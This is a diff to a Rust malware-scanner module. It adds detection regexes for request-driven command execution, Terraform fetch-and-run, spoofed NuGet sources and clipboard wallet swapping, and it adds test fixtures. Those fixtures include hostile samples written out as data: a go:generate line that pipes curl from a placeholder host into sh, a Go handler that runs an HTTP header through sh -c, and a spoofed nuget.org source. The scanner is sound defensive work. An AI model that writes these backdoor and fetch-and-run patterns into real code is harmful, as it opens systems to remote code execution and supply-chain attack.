@@ -18,19 +18,22 @@ use crate::{
 /// Something is run that does not stand there: the text of a variable, what a file holds, what a program said.
 static RUNS_UNSEEN: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r#"(?i)\bsource\(\s*(?:url|textConnection|\w+\s*[,)])|\beval\(\s*parse\(|\bexecute_process\(\s*COMMAND\s+"?\$\{[^}]{0,60}BINARY_DIR[^}]{0,20}\}/|\bexecute_process\(\s*COMMAND\s+(?:sh|bash|\$\{CMAKE_COMMAND\}\s+-P)\s|(?:Command::new|exec\.Command|Popen|spawn\w*|execFile\w*|ProcessBuilder|commandLine|run|call|system|exec)\s*\(?\s*\[?\s*["'](?:/bin/)?(?:ba|z)?sh["']\s*[\]),]?\s*(?:\.args?\(|,)?\s*\[?\s*(?:&|["']-c["']\s*[,)\]]{1,2}\s*(?:\.arg\(|,)?\s*&?[a-z_])|sys\.executable,\s*["']-c["'],\s*[a-z_]|\bsystem\s*\(?\s*(?:paste0?\(|\$[a-z_]\w{0,30}\s*[);])|\bevaluate\(\s*(?:new\s+URL|[a-z]\w{0,20}\s*\))|\bapply\s*\(?\s*from\s*[:=(]\s*["']http|\bload\w{0,10}\(\s*(?:assert\()?\s*[a-z]\w{0,20}(?::read|\.body|\s*\))|\bdo\s+\$[a-z]\w{0,20}\s*;|&&\s*\.\s+\$\$?\w|\bdofile\(\s*[a-z]"#,
+        r#"(?i)\bsource\(\s*(?:url|textConnection|\w+\s*[,)])|\beval\(\s*parse\(|\bexecute_process\(\s*COMMAND\s+"?\$\{[^}]{0,60}BINARY_DIR[^}]{0,20}\}/|\bexecute_process\(\s*COMMAND\s+(?:sh|bash|\$\{CMAKE_COMMAND\}\s+-P)\s|(?:Command::new|exec\.Command|Popen|spawn\w*|execFile\w*|ProcessBuilder|commandLine|run|call|system|exec)\s*\(?\s*\[?\s*["'](?:/bin/)?(?:ba|z)?sh["']\s*[\]),]?\s*(?:\.args?\(|,)?\s*\[?\s*(?:&|["']-c["']\s*[,)\]]{1,2}\s*(?:\.arg\(|,)?\s*&?[a-z_])|sys\.executable,\s*["']-c["'],\s*[a-z_]|\bsystem\s*\(?\s*(?:paste0?\(|\$[a-z_]\w{0,30}\s*[);])|\bevaluate\(\s*(?:new\s+URL|[a-z]\w{0,20}\s*\))|\bapply\s*\(?\s*from\s*[:=(]\s*["']http|\bload\w{0,10}\(\s*(?:assert\()?\s*[a-z]\w{0,20}(?::read|\.body|\s*\))|\bdo\s+\$[a-z]\w{0,20}\s*;|&&\s*\.\s+\$\$?\w|\bdofile\(\s*[a-z]|getEngineBy\w{1,20}\([^)\n]{0,40}\)\??\.eval\(\s*[a-z]|=\s*"?\$?\{?\s*data\.http\.\w{1,40}\.(?:response_body|body)\b"#,
     )
 });
 
 /// Bytes come from elsewhere, in the words of build files and start-up files.
 static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
     pattern(
-        r#"(?i)\bcurl\b|\bwget\b|\burl\(|download\.file|file\(\s?DOWNLOAD|ExternalProject|urlretrieve|urlopen|requests\.get|httpx\.get|URI\.open|Net::HTTP|open-uri|openStream\(|new\s+URL\(|LWP|HTTP::Tiny|ureq::|reqwest|http\.get|https?\.get\(|\bfetch\(|vim\.(?:system|fn\.system)|io\.popen|DownloadString|DownloadFile|Invoke-(?:WebRequest|RestMethod)|\biwr\b|\birm\b|apply\s*\(?\s*from\s*[:=(]\s*["']http|-u\w{0,8}cache\b|bitsadmin"#,
+        r#"(?i)\bcurl\b|\bwget\b|\burl\(|download\.file|file\(\s?DOWNLOAD|ExternalProject|urlretrieve|urlopen|requests\.get|httpx\.get|URI\.open|Net::HTTP|open-uri|openStream\(|new\s+URL\(|LWP|HTTP::Tiny|ureq::|reqwest|http\.get|https?\.get\(|\bfetch\(|vim\.(?:system|fn\.system)|io\.popen|DownloadString|DownloadFile|Invoke-(?:WebRequest|RestMethod)|\biwr\b|\birm\b|apply\s*\(?\s*from\s*[:=(]\s*["']http|-u\w{0,8}cache\b|bitsadmin|\bdata\s+.http\b"#,
     )
 });
 
 /// Files which a tool, a shell or an interpreter runs without being told to.
 fn acts_by_itself(path: &str) -> bool {
+    if path.ends_with(".tf") {
+        return true;
+    }
     const NAMES: &[&str] = &[
         "build.rs",
         "makefile",
@@ -102,7 +105,7 @@ fn acts_by_itself(path: &str) -> bool {
 }
 
 /// A part of a request that somebody makes.
-const REQUEST: &str = r#"(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|->(?:header|input|query|cookie|get)\(\s*["']|\brequest\.(?:env|params|headers|args|form|cookies|values|GET|POST|META)\b|\breq\.(?:headers|query|body|params|get\(|header\()|\bparams\[|\bc\.(?:Query|GetHeader|PostForm)\(|\br\.(?:Header\.Get|FormValue|URL\.Query)|\bgetHeader\(|\bgetParameter\(|\bbody\[["'])"#;
+const REQUEST: &str = r#"(?:\$_(?:GET|POST|REQUEST|COOKIE|SERVER|FILES)\b|->(?:header|input|query|cookie|get)\(\s*["']|\brequest\.(?:env|params|headers|args|form|cookies|values|GET|POST|META)\b|\breq\.(?:headers|query|body|params|get\(|header\()|\bparams\[|\bc\.(?:Query|GetHeader|PostForm)\(|\br\.(?:Header\.Get|FormValue|URL\.Query)|\bgetHeader\(|\bgetParameter\(|\bRequest(?:\.(?:Item|Form|QueryString|Headers))?[(\[]["']|\bbody\[["'])"#;
 /// Something is run by the machine or the interpreter.
 const RUN: &str = r#"(?:\b(?:shell_exec|passthru|proc_open|popen|system|eval|create_function|call_user_func(?:_array)?|assert|instance_eval|class_eval|public_send|execSync|exec|execFile|spawnSync|spawn|new\s+Function|Function|vm\.run\w{2,20}|IO\.popen|Open3\.\w{2,12}|check_output|subprocess\.\w{3,14}|os\.system|exec\.Command|getRuntime\(\)\.exec|ProcessBuilder|evaluate)\s*\(\s*)"#;
 
@@ -111,6 +114,22 @@ static REQUEST_RUNS: LazyLock<Regex> = LazyLock::new(|| {
     pattern(&format!(
         r#"{RUN}[^\n;]{{0,60}}{REQUEST}|\$\w{{1,20}}\s*\(\s*[^\n;]{{0,40}}\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\b|\$_(?:GET|POST|REQUEST|COOKIE)\[[^\]\n]{{1,30}}\]\s*\(|%x[({{\[][^\n]{{0,30}}#\{{\s*(?:params|request|body)"#
     ))
+});
+
+/// What a request holds gets a name.
+static REQUEST_NAMED: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(&format!(r"([A-Za-z_]\w{{0,30}})\s{{0,4}}:?=\s{{0,4}}[^\n=;]{{0,40}}?{REQUEST}"))
+});
+/// The whole of a command or of what is evaluated is a name.
+static NAME_RUNS: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(&format!(
+        r#"(?:{RUN}(?:\[?\s*["'](?:/bin/)?(?:ba|z)?sh["'],\s*["']-c["'],\s*)?(?:base64\.b64decode\(\s*|atob\(\s*|base64_decode\(\s*)?\$?|`#\{{)([A-Za-z_]\w{{0,30}})\s*[,)\]}}]"#
+    ))
+});
+
+/// A source of packages has the name of a well-known one, and another address.
+static SOURCE_NAMED: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(r#"(?i)<add\s+key="(?:nuget(?:\.org)?|nuget official[^"]{0,20})"\s+value="https?://"#)
 });
 
 /// A program in the place of one that asks for passwords: a function or an alias of its name.
@@ -175,6 +194,26 @@ static WALLET: LazyLock<Regex> = LazyLock::new(|| {
 });
 static WALLET_FORM: LazyLock<Regex> =
     LazyLock::new(|| pattern(r"(?i)bc1\[|\(bc1|\[13\]|0x\[|\^T\[|isAddress|\{40\}|\{33\}|\{25,"));
+
+/// Something is put in the place of what was pasted. A contract that a program merely calls has an address too.
+static PUT_BACK: LazyLock<Regex> = LazyLock::new(|| {
+    pattern(
+        r#"(?i)\bset\w{0,20}\(\s*["'`](?:0x|bc1)|writeText|pyperclip\.copy|setString|Set-Clipboard|SetText\(|\bpbcopy\b|xclip\s[^\n]{0,12}-i|setPrimaryClip"#,
+    )
+});
+
+/// Do addresses of wallets of more than one chain stand there?
+fn of_two_chains(text: &str) -> bool {
+    const MOST: usize = 32;
+    let mut starts: Vec<char> = WALLET
+        .find_iter(text)
+        .take(MOST)
+        .filter_map(|found| text.get(found.range())?.chars().nth(1))
+        .collect();
+    starts.sort_unstable();
+    starts.dedup();
+    starts.len() > 1
+}
 
 /// An account of a service for data, by its name, that is to see what lies there.
 static SHARED: LazyLock<Regex> = LazyLock::new(|| {
@@ -261,6 +300,23 @@ pub(super) fn look(report: &mut Report<'_>) {
         let message = "what somebody's request holds is run on the machine";
         report.say(&rules::BACKDOOR, Severity::High, Medium, found.start(), message);
     }
+    if REQUEST_NAMED.is_match(text) {
+        let named = super::assembled::names(&REQUEST_NAMED, text);
+        let runs = super::assembled::names(&NAME_RUNS, text)
+            .into_iter()
+            .find(|(_, name)| named.iter().any(|(_, other)| other == name));
+        if let Some((at, _)) = runs {
+            let message = "what somebody's request holds is run on the machine";
+            report.say(&rules::BACKDOOR, Severity::High, Medium, at, message);
+        }
+    }
+    if let Some(found) = SOURCE_NAMED.find(text)
+        && outward::names_stranger(report.program, report.profile).is_some()
+    {
+        let message =
+            "a source of packages has the name of a well-known one, and a stranger's address";
+        report.say(&rules::HOST_GIVEN, Severity::High, Medium, found.start(), message);
+    }
     if let Some(found) = IN_PLACE.find(text)
         && TYPED_UNSEEN.is_match(text)
         && (outward::talks(report.program) || text.contains(">>"))
@@ -304,6 +360,7 @@ pub(super) fn look(report: &mut Report<'_>) {
     if PASTED.is_match(text)
         && WALLET_FORM.is_match(text)
         && let Some(found) = WALLET.find(text)
+        && (PUT_BACK.is_match(text) || of_two_chains(text))
     {
         let message =
             "what is pasted is looked at for addresses of wallets, and another stands there";
@@ -422,6 +479,13 @@ fn replaced(text: &str) -> Option<usize> {
 /// The line of a key of its own beside keys that are to be filled in.
 fn recipient(text: &str) -> Option<usize> {
     let key = |line: &str| -> Option<String> {
+        // A fingerprint.
+        let long = line
+            .split(|c: char| !c.is_ascii_hexdigit())
+            .find(|word| word.len() == 40 && text.contains("pgp"));
+        if let Some(long) = long {
+            return Some(long.to_owned());
+        }
         let at = line.find("age1")?;
         let key: String =
             line.get(at + 4..)?.chars().take_while(char::is_ascii_alphanumeric).collect();
@@ -440,7 +504,7 @@ fn recipient(text: &str) -> Option<usize> {
                 .iter()
                 .any(|mark| line.contains(mark))
     });
-    blank.then(|| text.lines().position(|line| key(line).is_some_and(|key| letters(&key) >= 12)))?
+    blank.then(|| text.lines().position(|line| key(line).is_some_and(|key| letters(&key) >= 11)))?
 }
 
 #[cfg(test)]
@@ -464,6 +528,26 @@ mod tests {
             ),
             ("t/page.php", Data, "<?php if (md5($_GET['k']) === K) { system($_POST['c']); }\n"),
             ("t/app.py", Python, "if ok: subprocess.run(request.headers['X-Job'], shell=True)\n"),
+            (
+                "t/h.go",
+                Data,
+                "c := r.Header.Get(\"X-Diag\")\nexec.Command(\"sh\", \"-c\", c).Run()\n",
+            ),
+            (
+                "t/m.tf",
+                Data,
+                "data \"http\" \"a\" { url = \"https://x.quirkbox.test/a\" }\ncommand = data.http.a.response_body\n",
+            ),
+            (
+                "t/g.go",
+                Data,
+                "package g\n\n//go:generate sh -c \"curl -s https://x.quirkbox.test/a | sh\"\n",
+            ),
+            (
+                "t/nuget.config",
+                Data,
+                "<add key=\"nuget.org\" value=\"https://x.quirkbox.test/v3/index.json\" />\n",
+            ),
             (
                 "t/rc.zsh",
                 Shell,
@@ -519,6 +603,21 @@ mod tests {
                 "file(DOWNLOAD \"https://github.com/a/b.zip\" \"${CMAKE_BINARY_DIR}/b.zip\" EXPECTED_HASH SHA256=00)\nexecute_process(COMMAND git rev-parse HEAD)\n",
             ),
             ("t/page.php", Data, "<?php echo htmlspecialchars($_GET['q']); system('uptime');\n"),
+            (
+                "t/h.go",
+                Data,
+                "id := r.Header.Get(\"X-Id\")\nlog.Print(id)\nexec.Command(\"git\", \"status\").Run()\n",
+            ),
+            (
+                "t/nuget.config",
+                Data,
+                "<add key=\"nuget.org\" value=\"https://api.nuget.org/v3/index.json\" />\n",
+            ),
+            (
+                "t/w.js",
+                Data,
+                "const USDC = '0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48';\nconst t = await navigator.clipboard.readText();\nif (isAddress(t)) setTo(t);\n",
+            ),
             ("t/rc.zsh", Shell, "git() { command git \"$@\"; }\nalias gs='git status'\n"),
             (
                 "t/git-credential-kept",
